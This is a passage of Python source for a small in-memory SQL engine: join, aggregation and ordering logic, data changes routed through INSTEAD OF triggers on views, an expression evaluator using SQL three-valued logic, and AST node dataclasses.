                joined: List[Scope] = []
                for left_scope in scopes:
                    matched = False
                    for row in join_rows:
                        candidate = self._merge_scopes(
                            left_scope, self._scope_for(join_name, join_cols, row, outer_scope)
                        )
                        if join.on is None or evaluator.truth(join.on, candidate):
                            joined.append(candidate)
                            matched = True
                    if join.kind == "LEFT" and not matched:
                        null_row = {c.lower(): None for c in join_cols}
                        joined.append(
                            self._merge_scopes(
                                left_scope,
                                self._scope_for(join_name, join_cols, null_row, outer_scope),
                            )
                        )
                scopes = joined
        # --- WHERE -----------------------------------------------------------
        if core.where is not None:
            scopes = [s for s in scopes if evaluator.truth(core.where, s)]
        # --- aggregate or plain projection ------------------------------------
        has_aggregates = any(contains_aggregate(item.expr) for item in core.items) or (
            core.having is not None and contains_aggregate(core.having)
        )
        columns = self._core_output_columns(core, source_columns)
        if core.group_by or has_aggregates:
            rows = self._aggregate(core, scopes, columns, evaluator)
        else:
            rows = []
            for scope in scopes:
                values = self._project(core, scope, source_columns, evaluator)
                rows.append(_ProjectedRow(tuple(values), scope))
        if core.distinct:
            seen = set()
            unique: List[_ProjectedRow] = []
            for row in rows:
                key = row.values
                if key not in seen:
                    seen.add(key)
                    unique.append(row)
            rows = unique
        return columns, rows

    def _try_flattened_view(
        self,
        core: ast.SelectCore,
        enclosing: ast.Select,
        params: List[object],
        evaluator: Evaluator,
        outer_scope: Optional[Scope],
    ) -> Optional[Tuple[List[str], List[_ProjectedRow]]]:
        """Execute ``SELECT ... FROM union_all_view WHERE ...`` by pushing
        the work into the view's arms when the planner allows it."""
        if core.source is None or core.source.name is None or core.joins:
            return None
        if core.group_by or core.having or core.distinct:
            return None
        if any(contains_aggregate(item.expr) for item in core.items):
            return None
        view = self.views.get(core.source.name.lower())
        if view is None or not view.select.is_compound:
            return None
        queried = self._queried_column_set(core)
        if not planner.should_flatten(
            view.select,
            enclosing.order_by if len(enclosing.cores) == 1 else [],
            queried,
            self.sqlite_emulation,
        ):
            return None
        self.stats.flattened_queries += 1
        effective = core.source.effective_name
        view_columns_lower = [c.lower() for c in view.columns]
        out_rows: List[_ProjectedRow] = []
        source_columns = [(effective, list(view.columns))]
        for arm in view.select.cores:
            arm_columns, arm_rows = self._execute_core(
                arm, view.select, params, evaluator, outer_scope
            )
            for arm_row in arm_rows:
                row_dict = dict(zip(view_columns_lower, arm_row.values))
                scope = self._scope_for(effective, view.columns, row_dict, outer_scope)
                if core.where is not None and not evaluator.truth(core.where, scope):
                    continue
                values = self._project(core, scope, source_columns, evaluator)
                out_rows.append(_ProjectedRow(tuple(values), scope))
        return self._core_output_columns(core, source_columns), out_rows

    def _core_output_columns(
        self, core: ast.SelectCore, source_columns: List[Tuple[str, List[str]]]
    ) -> List[str]:
        names: List[str] = []
        for item in core.items:
            if isinstance(item.expr, ast.Star):
                for table_name, cols in source_columns:
                    if item.expr.table and table_name.lower() != item.expr.table.lower():
                        continue
                    names.extend(cols)
            elif item.alias:
                names.append(item.alias)
            elif isinstance(item.expr, ast.Column):
                names.append(item.expr.name)
            elif isinstance(item.expr, ast.FunctionCall):
                star = "*" if item.expr.star else ""
                names.append(f"{item.expr.name}({star})")
            else:
                names.append(f"col{len(names) + 1}")
        return names

    def _project(
        self,
        core: ast.SelectCore,
        scope: Scope,
        source_columns: List[Tuple[str, List[str]]],
        evaluator: Evaluator,
    ) -> List[object]:
        values: List[object] = []
        for item in core.items:
            if isinstance(item.expr, ast.Star):
                for table_name, cols in source_columns:
                    if item.expr.table and table_name.lower() != item.expr.table.lower():
                        continue
                    for column in cols:
                        values.append(scope.lookup(f"{table_name.lower()}.{column.lower()}"))
            else:
                values.append(evaluator.evaluate(item.expr, scope))
        return values

    # -- aggregation --------------------------------------------------------

    def _aggregate(
        self,
        core: ast.SelectCore,
        scopes: List[Scope],
        columns: List[str],
        evaluator: Evaluator,
    ) -> List[_ProjectedRow]:
        groups: Dict[tuple, List[Scope]] = {}
        order: List[tuple] = []
        if core.group_by:
            for scope in scopes:
                key = tuple(
                    self._hashable(evaluator.evaluate(expr, scope)) for expr in core.group_by
                )
                if key not in groups:
                    groups[key] = []
                    order.append(key)
                groups[key].append(scope)
        else:
            groups[()] = scopes
            order.append(())
        rows: List[_ProjectedRow] = []
        for key in order:
            group = groups[key]
            representative = group[0] if group else Scope({})
            if core.having is not None:
                having_value = self._eval_aggregate_expr(core.having, group, evaluator)
                if not having_value:
                    continue
            values = [
                self._eval_aggregate_expr(item.expr, group, evaluator) for item in core.items
            ]
            rows.append(_ProjectedRow(tuple(values), representative))
        return rows

    @staticmethod
    def _hashable(value: object) -> object:
        return tuple(value) if isinstance(value, list) else value

    def _eval_aggregate_expr(
        self, expr: ast.Expr, group: List[Scope], evaluator: Evaluator
    ) -> object:
        if is_aggregate_call(expr):
            assert isinstance(expr, ast.FunctionCall)
            return self._compute_aggregate(expr, group, evaluator)
        if isinstance(expr, ast.Binary):
            left = self._eval_aggregate_expr(expr.left, group, evaluator)
            right = self._eval_aggregate_expr(expr.right, group, evaluator)
            synthetic = ast.Binary(
                op=expr.op, left=ast.Literal(value=left), right=ast.Literal(value=right)
            )
            return evaluator.evaluate(synthetic, group[0] if group else Scope({}))
        if isinstance(expr, ast.Unary):
            inner = self._eval_aggregate_expr(expr.operand, group, evaluator)
            synthetic = ast.Unary(op=expr.op, operand=ast.Literal(value=inner))
            return evaluator.evaluate(synthetic, group[0] if group else Scope({}))
        scope = group[0] if group else Scope({})
        return evaluator.evaluate(expr, scope)

    def _compute_aggregate(
        self, call: ast.FunctionCall, group: List[Scope], evaluator: Evaluator
    ) -> object:
        if call.star:
            if call.name == "count":
                return len(group)
            raise SqlError(f"{call.name}(*) is not supported")
        if not call.args:
            raise SqlError(f"aggregate {call.name}() needs an argument")
        values = [evaluator.evaluate(call.args[0], scope) for scope in group]
        present = [v for v in values if v is not None]
        if call.distinct:
            deduped: List[object] = []
            for value in present:
                if value not in deduped:
                    deduped.append(value)
            present = deduped
        if call.name == "count":
            return len(present)
        if call.name == "sum":
            return sum(present) if present else None  # type: ignore[arg-type]
        if call.name == "total":
            return float(sum(present)) if present else 0.0  # type: ignore[arg-type]
        if call.name == "avg":
            return (sum(present) / len(present)) if present else None  # type: ignore[arg-type]
        if call.name in ("min", "max"):
            if not present:
                return None
            chosen = present[0]
            for value in present[1:]:
                order = sql_compare(value, chosen)
                if (call.name == "min" and order < 0) or (call.name == "max" and order > 0):
                    chosen = value
            return chosen
        if call.name == "group_concat":
            if not present:
                return None
            return ",".join(str(v) for v in present)
        raise SqlNameError(f"no such aggregate: {call.name}")

    # -- ordering -------------------------------------------------------------

    def _order_rows(
        self,
        rows: List[_ProjectedRow],
        columns: List[str],
        order_by: List[ast.OrderItem],
        evaluator: Evaluator,
    ) -> List[_ProjectedRow]:
        lowered = [c.lower() for c in columns]

        def sort_key_values(row: _ProjectedRow) -> List[object]:
            keys: List[object] = []
            for item in order_by:
                expr = item.expr
                if isinstance(expr, ast.Literal) and isinstance(expr.value, int):
                    keys.append(row.values[expr.value - 1])
                    continue
                if isinstance(expr, ast.Column) and expr.table is None:
                    name = expr.name.lower()
                    if name in lowered:
                        keys.append(row.values[lowered.index(name)])
                        continue
                keys.append(evaluator.evaluate(expr, row.scope))
            return keys

        import functools

        def compare(a: _ProjectedRow, b: _ProjectedRow) -> int:
            keys_a = sort_key_values(a)
            keys_b = sort_key_values(b)
            for item, ka, kb in zip(order_by, keys_a, keys_b):
                order = sql_compare(ka, kb)
                if order != 0:
                    return -order if item.descending else order
            return 0

        return sorted(rows, key=functools.cmp_to_key(compare))

    # ------------------------------------------------------------------
    # DML
    # ------------------------------------------------------------------

    def _execute_insert(
        self, statement: ast.Insert, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        key = statement.table.lower()
        if key in self.views:
            return self._insert_into_view(statement, params, scope)
        table = self.table(statement.table)
        evaluator = self._evaluator(params)
        eval_scope = scope or Scope({})
        value_rows: List[List[object]] = []
        if statement.select is not None:
            result = self._execute_select(statement.select, params, outer_scope=scope)
            value_rows = [list(row) for row in result.rows]
        else:
            for exprs in statement.values:
                value_rows.append([evaluator.evaluate(e, eval_scope) for e in exprs])
        columns = statement.columns or [c.name for c in table.columns]
        lastrowid = None
        for values in value_rows:
            if len(values) != len(columns):
                raise SqlError(
                    f"{len(columns)} columns but {len(values)} values in INSERT"
                )
            row = {c.lower(): v for c, v in zip(columns, values)}
            lastrowid = table.insert_row(row, or_replace=statement.or_replace)
        return ResultSet(rowcount=len(value_rows), lastrowid=lastrowid)

    def _execute_update(
        self, statement: ast.Update, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        key = statement.table.lower()
        if key in self.views:
            return self._update_view(statement, params, scope)
        table = self.table(statement.table)
        evaluator = self._evaluator(params)
        updated = 0
        for rowid, row in list(table.rows.items()):
            row_scope = self._scope_for(table.name, [c.name for c in table.columns], row, scope)
            if not evaluator.truth(statement.where, row_scope):
                continue
            new_values = {
                column.lower(): evaluator.evaluate(expr, row_scope)
                for column, expr in statement.assignments
            }
            unknown = set(new_values) - set(table.column_names)
            if unknown:
                raise SqlNameError(f"no such columns in UPDATE: {sorted(unknown)}")
            if table.pk_column in new_values:
                new_pk = new_values[table.pk_column]
                clash = table.find_by_pk(new_pk)
                if clash is not None and clash != rowid:
                    raise SqlIntegrityError(
                        f"UNIQUE constraint failed: {table.display_name}.{table.pk_column}"
                    )
            row.update(new_values)
            updated += 1
        return ResultSet(rowcount=updated)

    def _execute_delete(
        self, statement: ast.Delete, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        key = statement.table.lower()
        if key in self.views:
            return self._delete_from_view(statement, params, scope)
        table = self.table(statement.table)
        evaluator = self._evaluator(params)
        doomed: List[int] = []
        for rowid, row in table.rows.items():
            row_scope = self._scope_for(table.name, [c.name for c in table.columns], row, scope)
            if evaluator.truth(statement.where, row_scope):
                doomed.append(rowid)
        removed = table.delete_rowids(doomed)
        return ResultSet(rowcount=removed)

    # -- INSTEAD OF triggers ---------------------------------------------------

    def _view_trigger(self, view_key: str, event: str) -> _Trigger:
        trigger = self.triggers.get(view_key, {}).get(event)
        if trigger is None:
            raise SqlReadOnlyError(
                f"cannot modify view {view_key}: no INSTEAD OF {event} trigger"
            )
        return trigger

    def _run_trigger(
        self,
        trigger: _Trigger,
        params: List[object],
        new_row: Optional[Dict[str, object]],
        old_row: Optional[Dict[str, object]],
    ) -> None:
        bindings: Dict[str, object] = {}
        if new_row is not None:
            for column, value in new_row.items():
                bindings[f"new.{column.lower()}"] = value
        if old_row is not None:
            for column, value in old_row.items():
                bindings[f"old.{column.lower()}"] = value
        trigger_scope = Scope(bindings)
        for action in trigger.body:
            self._dispatch(action.statement, params, scope=trigger_scope)

    def _insert_into_view(
        self, statement: ast.Insert, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        view = self.views[statement.table.lower()]
        trigger = self._view_trigger(statement.table.lower(), "INSERT")
        evaluator = self._evaluator(params)
        eval_scope = scope or Scope({})
        value_rows: List[List[object]] = []
        if statement.select is not None:
            result = self._execute_select(statement.select, params, outer_scope=scope)
            value_rows = [list(r) for r in result.rows]
        else:
            for exprs in statement.values:
                value_rows.append([evaluator.evaluate(e, eval_scope) for e in exprs])
        columns = statement.columns or list(view.columns)
        for values in value_rows:
            new_row = {c.lower(): None for c in view.columns}
            for column, value in zip(columns, values):
                new_row[column.lower()] = value
            self._run_trigger(trigger, params, new_row=new_row, old_row=None)
        return ResultSet(rowcount=len(value_rows))

    def _view_rows_with_scopes(
        self, view: _View, params: List[object], scope: Optional[Scope]
    ) -> List[Dict[str, object]]:
        result = self._execute_select(view.select, params, outer_scope=scope)
        lowered = [c.lower() for c in view.columns]
        return [dict(zip(lowered, row)) for row in result.rows]

    def _update_view(
        self, statement: ast.Update, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        view = self.views[statement.table.lower()]
        trigger = self._view_trigger(statement.table.lower(), "UPDATE")
        evaluator = self._evaluator(params)
        rows = self._view_rows_with_scopes(view, params, scope)
        updated = 0
        for row in rows:
            row_scope = self._scope_for(view.name, view.columns, row, scope)
            if not evaluator.truth(statement.where, row_scope):
                continue
            new_row = dict(row)
            for column, expr in statement.assignments:
                new_row[column.lower()] = evaluator.evaluate(expr, row_scope)
            self._run_trigger(trigger, params, new_row=new_row, old_row=row)
            updated += 1
        return ResultSet(rowcount=updated)

    def _delete_from_view(
        self, statement: ast.Delete, params: List[object], scope: Optional[Scope]
    ) -> ResultSet:
        view = self.views[statement.table.lower()]
        trigger = self._view_trigger(statement.table.lower(), "DELETE")
        evaluator = self._evaluator(params)
        rows = self._view_rows_with_scopes(view, params, scope)
        deleted = 0
        for row in rows:
            row_scope = self._scope_for(view.name, view.columns, row, scope)
            if not evaluator.truth(statement.where, row_scope):
                continue
            self._run_trigger(trigger, params, new_row=None, old_row=row)
            deleted += 1
        return ResultSet(rowcount=deleted)
