"""Expression evaluation with SQL three-valued logic.

``NULL`` is represented by Python ``None``. Boolean results use ``1``/``0``
like SQLite, with ``None`` propagating as *unknown*; WHERE clauses treat
unknown as false.

A :class:`Scope` maps column names (both unqualified and
``table.column``-qualified, lowercased) to values. Scopes chain to an outer
scope so correlated subqueries resolve the enclosing row's columns.
"""

from __future__ import annotations

import fnmatch
import re
from typing import Callable, Dict, List, Optional, Sequence

from repro.errors import SqlError, SqlNameError
from repro.minisql import ast_nodes as ast

AGGREGATE_NAMES = {"count", "sum", "avg", "total", "min", "max", "group_concat"}


class Scope:
    """Column bindings for one row, chained to an optional outer scope."""

    __slots__ = ("bindings", "outer")

    def __init__(self, bindings: Dict[str, object], outer: Optional["Scope"] = None) -> None:
        self.bindings = bindings
        self.outer = outer

    def lookup(self, name: str) -> object:
        scope: Optional[Scope] = self
        while scope is not None:
            if name in scope.bindings:
                return scope.bindings[name]
            scope = scope.outer
        raise SqlNameError(f"no such column: {name}")

    def has(self, name: str) -> bool:
        scope: Optional[Scope] = self
        while scope is not None:
            if name in scope.bindings:
                return True
            scope = scope.outer
        return False


EMPTY_SCOPE = Scope({})


class _TouchDict(dict):
    """An always-empty bindings dict that raises a flag when consulted.

    Used to detect whether a subquery is *correlated*: the subquery runs
    with a tracking scope spliced between its own scopes and the outer
    row's; if the lookup chain ever reaches the tracker, the subquery read
    an outer column and its result must not be cached.
    """

    __slots__ = ("touched",)

    def __init__(self) -> None:
        super().__init__()
        self.touched = False

    def __contains__(self, key: object) -> bool:
        self.touched = True
        return False


def _to_bool(value: object) -> Optional[bool]:
    """SQL truthiness: NULL is unknown, zero/empty is false."""
    if value is None:
        return None
    if isinstance(value, (int, float)):
        return value != 0
    if isinstance(value, str):
        # SQLite coerces text; non-numeric text is false.
        try:
            return float(value) != 0
        except ValueError:
            return False
    return bool(value)


_TYPE_RANK = {type(None): 0, int: 1, float: 1, bool: 1, str: 2, bytes: 3}


def sql_compare(a: object, b: object) -> int:
    """Total ordering over SQL values (SQLite ordering: NULL < numeric <
    text < blob). Returns -1/0/1."""
    rank_a = _TYPE_RANK.get(type(a), 4)
    rank_b = _TYPE_RANK.get(type(b), 4)
    if rank_a != rank_b:
        return -1 if rank_a < rank_b else 1
    if a is None and b is None:
        return 0
    if a == b:
        return 0
    return -1 if a < b else 1  # type: ignore[operator]


def _compare_op(op: str, left: object, right: object) -> Optional[int]:
    if left is None or right is None:
        return None
    order = sql_compare(left, right)
    result = {
        "=": order == 0,
        "<>": order != 0,
        "<": order < 0,
        "<=": order <= 0,
        ">": order > 0,
        ">=": order >= 0,
    }[op]
    return 1 if result else 0


def _like(text: object, pattern: object) -> Optional[int]:
    if text is None or pattern is None:
        return None
    regex = re.escape(str(pattern)).replace("%", ".*").replace("_", ".")
    return 1 if re.fullmatch(regex, str(text), re.IGNORECASE | re.DOTALL) else 0


def _glob(text: object, pattern: object) -> Optional[int]:
    if text is None or pattern is None:
        return None
    return 1 if fnmatch.fnmatchcase(str(text), str(pattern)) else 0


def _arith(op: str, left: object, right: object) -> object:
    if left is None or right is None:
        return None
    if op == "||":
        return f"{left}{right}"
    if not isinstance(left, (int, float)) or not isinstance(right, (int, float)):
        raise SqlError(f"cannot apply {op} to {type(left).__name__} and {type(right).__name__}")
    if op == "+":
        return left + right
    if op == "-":
        return left - right
    if op == "*":
        return left * right
    if op == "/":
        if right == 0:
            return None  # SQLite yields NULL on division by zero
        result = left / right
        if isinstance(left, int) and isinstance(right, int):
            return int(left / right) if result >= 0 else -(-left // right)
        return result
    if op == "%":
        if right == 0:
            return None
        return left % right
    raise SqlError(f"unknown arithmetic operator {op}")


_SCALAR_FUNCTIONS: Dict[str, Callable[..., object]] = {}


def scalar_function(name: str):
    def decorator(fn):
        _SCALAR_FUNCTIONS[name] = fn
        return fn

    return decorator


@scalar_function("length")
def _fn_length(value: object) -> object:
    return None if value is None else len(str(value))


@scalar_function("upper")
def _fn_upper(value: object) -> object:
    return None if value is None else str(value).upper()


@scalar_function("lower")
def _fn_lower(value: object) -> object:
    return None if value is None else str(value).lower()


@scalar_function("abs")
def _fn_abs(value: object) -> object:
    return None if value is None else abs(value)  # type: ignore[arg-type]


@scalar_function("coalesce")
def _fn_coalesce(*values: object) -> object:
    for value in values:
        if value is not None:
            return value
    return None


@scalar_function("ifnull")
def _fn_ifnull(value: object, fallback: object) -> object:
    return fallback if value is None else value


@scalar_function("nullif")
def _fn_nullif(a: object, b: object) -> object:
    return None if a == b else a


@scalar_function("substr")
def _fn_substr(value: object, start: object, length: object = None) -> object:
    if value is None or start is None:
        return None
    text = str(value)
    index = int(start) - 1 if int(start) > 0 else len(text) + int(start)
    if length is None:
        return text[index:]
    return text[index : index + int(length)]


@scalar_function("replace")
def _fn_replace(value: object, old: object, new: object) -> object:
    if value is None or old is None or new is None:
        return None
    return str(value).replace(str(old), str(new))


@scalar_function("typeof")
def _fn_typeof(value: object) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool) or isinstance(value, int):
        return "integer"
    if isinstance(value, float):
        return "real"
    if isinstance(value, bytes):
        return "blob"
    return "text"


@scalar_function("instr")
def _fn_instr(haystack: object, needle: object) -> object:
    if haystack is None or needle is None:
        return None
    return str(haystack).find(str(needle)) + 1


def is_aggregate_call(expr: ast.Expr) -> bool:
    """True if ``expr`` is an aggregate function call (SQLite rule: min/max
    with a single argument are aggregates; with more they are scalar)."""
    if not isinstance(expr, ast.FunctionCall):
        return False
    if expr.name in ("min", "max"):
        return expr.star or len(expr.args) <= 1
    return expr.name in AGGREGATE_NAMES


def contains_aggregate(expr: ast.Expr) -> bool:
    """Recursively detect aggregate calls (not descending into subqueries)."""
    if is_aggregate_call(expr):
        return True
    if isinstance(expr, ast.Unary):
        return contains_aggregate(expr.operand)
    if isinstance(expr, ast.Binary):
        return contains_aggregate(expr.left) or contains_aggregate(expr.right)
    if isinstance(expr, ast.IsNull):
        return contains_aggregate(expr.operand)
    if isinstance(expr, ast.Between):
        return any(contains_aggregate(e) for e in (expr.operand, expr.low, expr.high))
    if isinstance(expr, ast.InList):
        return contains_aggregate(expr.operand) or any(contains_aggregate(e) for e in expr.items)
    if isinstance(expr, ast.FunctionCall):
        return any(contains_aggregate(a) for a in expr.args)
    if isinstance(expr, ast.CaseExpr):
        parts: List[ast.Expr] = [w for pair in expr.whens for w in pair]
        if expr.operand is not None:
            parts.append(expr.operand)
        if expr.otherwise is not None:
            parts.append(expr.otherwise)
        return any(contains_aggregate(p) for p in parts)
    return False


class Evaluator:
    """Evaluates expressions against a scope.

    ``subquery_runner`` is provided by the engine: it executes a
    :class:`~repro.minisql.ast_nodes.Select` with the current scope as the
    outer scope and returns the result rows (list of tuples).
    """

    def __init__(
        self,
        params: Sequence[object],
        subquery_runner: Optional[Callable[[ast.Select, Scope], List[tuple]]] = None,
    ) -> None:
        self.params = params
        self.subquery_runner = subquery_runner
        # Results of uncorrelated subqueries, valid for this statement
        # execution (SQLite likewise evaluates them once). Keyed by the AST
        # node identity.
        self._subquery_cache: Dict[int, List[tuple]] = {}
        # id(result rows) -> frozenset of first-column values (or None when
        # unhashable), the IN-subquery hash-probe fast path.
        self._membership_sets: Dict[int, Optional[frozenset]] = {}

    def _run_subquery(self, select: ast.Select, scope: Scope) -> List[tuple]:
        if self.subquery_runner is None:
            raise SqlError("subqueries are not available in this context")
        key = id(select)
        if key in self._subquery_cache:
            return self._subquery_cache[key]
        tracker = _TouchDict()
        tracking_scope = Scope(tracker, scope)
        rows = self.subquery_runner(select, tracking_scope)
        if not tracker.touched:
            self._subquery_cache[key] = rows
        return rows

    def evaluate(self, expr: ast.Expr, scope: Scope) -> object:
        if isinstance(expr, ast.Literal):
            return expr.value
        if isinstance(expr, ast.Param):
            try:
                return self.params[expr.index]
            except IndexError:
                raise SqlError(
                    f"statement needs at least {expr.index + 1} parameters, "
                    f"got {len(self.params)}"
                )
        if isinstance(expr, ast.Column):
            name = expr.qualified.lower()
            return scope.lookup(name)
        if isinstance(expr, ast.Unary):
            value = self.evaluate(expr.operand, scope)
            if expr.op == "NOT":
                truth = _to_bool(value)
                if truth is None:
                    return None
                return 0 if truth else 1
            if value is None:
                return None
            if expr.op == "-":
                return -value  # type: ignore[operator]
            return value
        if isinstance(expr, ast.Binary):
            return self._binary(expr, scope)
        if isinstance(expr, ast.IsNull):
            value = self.evaluate(expr.operand, scope)
            result = value is None
            if expr.negated:
                result = not result
            return 1 if result else 0
        if isinstance(expr, ast.Between):
            value = self.evaluate(expr.operand, scope)
            low = self.evaluate(expr.low, scope)
            high = self.evaluate(expr.high, scope)
            in_range = _compare_op(">=", value, low)
            upper = _compare_op("<=", value, high)
            if in_range is None or upper is None:
                return None
            result = bool(in_range and upper)
            if expr.negated:
                result = not result
            return 1 if result else 0
        if isinstance(expr, ast.InList):
            value = self.evaluate(expr.operand, scope)
            if value is None:
                return None
            found = False
            saw_null = False
            for item in expr.items:
                candidate = self.evaluate(item, scope)
                if candidate is None:
                    saw_null = True
                elif sql_compare(value, candidate) == 0:
                    found = True
                    break
            if not found and saw_null:
                return None
            result = not found if expr.negated else found
            return 1 if result else 0
        if isinstance(expr, ast.InSelect):
            value = self.evaluate(expr.operand, scope)
            if value is None:
                return None
            rows = self._run_subquery(expr.select, scope)
            membership = None
            if self._subquery_cache.get(id(expr.select)) is rows:
                # Hash-probe fast path, only for cached (uncorrelated)
                # subqueries — their row list identity is stable for the
                # whole statement. Ints/strings hash compatibly with SQL
                # equality; unhashable values fall back to the scan.
                membership = self._membership_sets.get(id(expr.select))
                if membership is None and id(expr.select) not in self._membership_sets:
                    try:
                        membership = frozenset(row[0] for row in rows if row)
                    except TypeError:
                        membership = None
                    self._membership_sets[id(expr.select)] = membership
            if membership is not None:
                found = value in membership
            else:
                found = any(row and sql_compare(value, row[0]) == 0 for row in rows)
            result = not found if expr.negated else found
            return 1 if result else 0
        if isinstance(expr, ast.ExistsSelect):
            rows = self._run_subquery(expr.select, scope)
            result = bool(rows)
            if expr.negated:
                result = not result
            return 1 if result else 0
        if isinstance(expr, ast.ScalarSelect):
            rows = self._run_subquery(expr.select, scope)
            if not rows:
                return None
            return rows[0][0]
        if isinstance(expr, ast.FunctionCall):
            return self._function(expr, scope)
        if isinstance(expr, ast.CaseExpr):
            return self._case(expr, scope)
        if isinstance(expr, ast.Star):
            raise SqlError("* is only valid in a select list")
        raise SqlError(f"cannot evaluate expression node {type(expr).__name__}")

    def _binary(self, expr: ast.Binary, scope: Scope) -> object:
        op = expr.op
        if op == "AND":
            left = _to_bool(self.evaluate(expr.left, scope))
            if left is False:
                return 0
            right = _to_bool(self.evaluate(expr.right, scope))
            if right is False:
                return 0
            if left is None or right is None:
                return None
            return 1
        if op == "OR":
            left = _to_bool(self.evaluate(expr.left, scope))
            if left is True:
                return 1
            right = _to_bool(self.evaluate(expr.right, scope))
            if right is True:
                return 1
            if left is None or right is None:
                return None
            return 0
        left_value = self.evaluate(expr.left, scope)
        right_value = self.evaluate(expr.right, scope)
        if op in ("=", "<>", "<", "<=", ">", ">="):
            return _compare_op(op, left_value, right_value)
        if op == "LIKE":
            return _like(left_value, right_value)
        if op == "GLOB":
            return _glob(left_value, right_value)
        return _arith(op, left_value, right_value)

    def _function(self, expr: ast.FunctionCall, scope: Scope) -> object:
        if is_aggregate_call(expr):
            raise SqlError(
                f"aggregate function {expr.name}() used outside of an aggregate query"
            )
        fn = _SCALAR_FUNCTIONS.get(expr.name)
        if fn is None:
            if expr.name in ("min", "max"):
                values = [self.evaluate(a, scope) for a in expr.args]
                if any(v is None for v in values):
                    return None
                chosen = values[0]
                for value in values[1:]:
                    order = sql_compare(value, chosen)
                    if (expr.name == "min" and order < 0) or (expr.name == "max" and order > 0):
                        chosen = value
                return chosen
            raise SqlNameError(f"no such function: {expr.name}")
        args = [self.evaluate(a, scope) for a in expr.args]
        return fn(*args)

    def _case(self, expr: ast.CaseExpr, scope: Scope) -> object:
        if expr.operand is not None:
            subject = self.evaluate(expr.operand, scope)
            for condition, result in expr.whens:
                candidate = self.evaluate(condition, scope)
                if candidate is not None and sql_compare(subject, candidate) == 0:
                    return self.evaluate(result, scope)
        else:
            for condition, result in expr.whens:
                if _to_bool(self.evaluate(condition, scope)):
                    return self.evaluate(result, scope)
        if expr.otherwise is not None:
            return self.evaluate(expr.otherwise, scope)
        return None

    def truth(self, expr: Optional[ast.Expr], scope: Scope) -> bool:
        """Evaluate a WHERE/HAVING/ON condition; unknown counts as false."""
        if expr is None:
            return True
        return _to_bool(self.evaluate(expr, scope)) is True
