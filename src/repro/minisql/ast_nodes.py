"""AST node definitions for the mini SQL engine.

Plain dataclasses; the parser builds them and the engine/planner walk them.
Expression nodes share a common base (:class:`Expr`) so evaluation can
dispatch on type.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


class Expr:
    """Base class for expression nodes."""


@dataclass
class Literal(Expr):
    value: object  # None, int, float, str, bytes


@dataclass
class Param(Expr):
    """A ``?`` placeholder; ``index`` is its 0-based position."""

    index: int


@dataclass
class Column(Expr):
    """A (possibly table-qualified) column reference; may be ``NEW.x``/``OLD.x``."""

    name: str
    table: Optional[str] = None

    @property
    def qualified(self) -> str:
        return f"{self.table}.{self.name}" if self.table else self.name


@dataclass
class Star(Expr):
    """``*`` or ``table.*`` in a select list."""

    table: Optional[str] = None


@dataclass
class Unary(Expr):
    op: str  # 'NOT', '-', '+'
    operand: Expr


@dataclass
class Binary(Expr):
    op: str  # '=', '<>', '<', '<=', '>', '>=', 'AND', 'OR', '+', '-', '*', '/', '%', '||', 'LIKE', 'GLOB'
    left: Expr
    right: Expr


@dataclass
class IsNull(Expr):
    operand: Expr
    negated: bool = False


@dataclass
class Between(Expr):
    operand: Expr
    low: Expr
    high: Expr
    negated: bool = False


@dataclass
class InList(Expr):
    operand: Expr
    items: List[Expr]
    negated: bool = False


@dataclass
class InSelect(Expr):
    operand: Expr
    select: "Select"
    negated: bool = False


@dataclass
class ExistsSelect(Expr):
    select: "Select"
    negated: bool = False


@dataclass
class ScalarSelect(Expr):
    select: "Select"


@dataclass
class FunctionCall(Expr):
    """Scalar or aggregate function; ``star`` marks ``COUNT(*)``."""

    name: str
    args: List[Expr]
    star: bool = False
    distinct: bool = False


@dataclass
class CaseExpr(Expr):
    """``CASE [operand] WHEN .. THEN .. [ELSE ..] END``."""

    operand: Optional[Expr]
    whens: List[Tuple[Expr, Expr]]
    otherwise: Optional[Expr]


# ---------------------------------------------------------------------------
# SELECT
# ---------------------------------------------------------------------------


@dataclass
class SelectItem:
    expr: Expr
    alias: Optional[str] = None


@dataclass
class TableRef:
    """A FROM-clause source: a named table/view with an optional alias, or a
    parenthesized subquery."""

    name: Optional[str] = None
    alias: Optional[str] = None
    subquery: Optional["Select"] = None

    @property
    def effective_name(self) -> str:
        if self.alias:
            return self.alias
        if self.name:
            return self.name
        return "<subquery>"


@dataclass
class Join:
    table: TableRef
    on: Optional[Expr] = None
    kind: str = "INNER"  # INNER | CROSS | LEFT


@dataclass
class OrderItem:
    expr: Expr
    descending: bool = False


@dataclass
class SelectCore:
    """One arm of a (possibly compound) SELECT."""

    items: List[SelectItem]
    source: Optional[TableRef] = None
    joins: List[Join] = field(default_factory=list)
    where: Optional[Expr] = None
    group_by: List[Expr] = field(default_factory=list)
    having: Optional[Expr] = None
    distinct: bool = False


@dataclass
class Select:
    """A full SELECT: one or more cores combined with UNION ALL, plus
    ORDER BY / LIMIT that apply to the compound result."""

    cores: List[SelectCore]
    order_by: List[OrderItem] = field(default_factory=list)
    limit: Optional[Expr] = None
    offset: Optional[Expr] = None

    @property
    def is_compound(self) -> bool:
        return len(self.cores) > 1


# ---------------------------------------------------------------------------
# DML
# ---------------------------------------------------------------------------


@dataclass
class Insert:
    table: str
    columns: List[str]
    values: List[List[Expr]]
    or_replace: bool = False
    select: Optional[Select] = None  # INSERT INTO ... SELECT ...


@dataclass
class Update:
    table: str
    assignments: List[Tuple[str, Expr]]
    where: Optional[Expr] = None


@dataclass
class Delete:
    table: str
    where: Optional[Expr] = None


# ---------------------------------------------------------------------------
# DDL
# ---------------------------------------------------------------------------


@dataclass
class ColumnDef:
    name: str
    type_name: str = ""  # INTEGER, TEXT, REAL, BLOB, BOOLEAN or ''
    primary_key: bool = False
    not_null: bool = False
    unique: bool = False
    default: Optional[Expr] = None


@dataclass
class CreateTable:
    name: str
    columns: List[ColumnDef]
    if_not_exists: bool = False


@dataclass
class CreateView:
    name: str
    select: Select
    if_not_exists: bool = False


@dataclass
class TriggerAction:
    """One statement inside a trigger body (Insert/Update/Delete)."""

    statement: Union[Insert, Update, Delete]


@dataclass
class CreateTrigger:
    name: str
    event: str  # INSERT | UPDATE | DELETE
    view: str
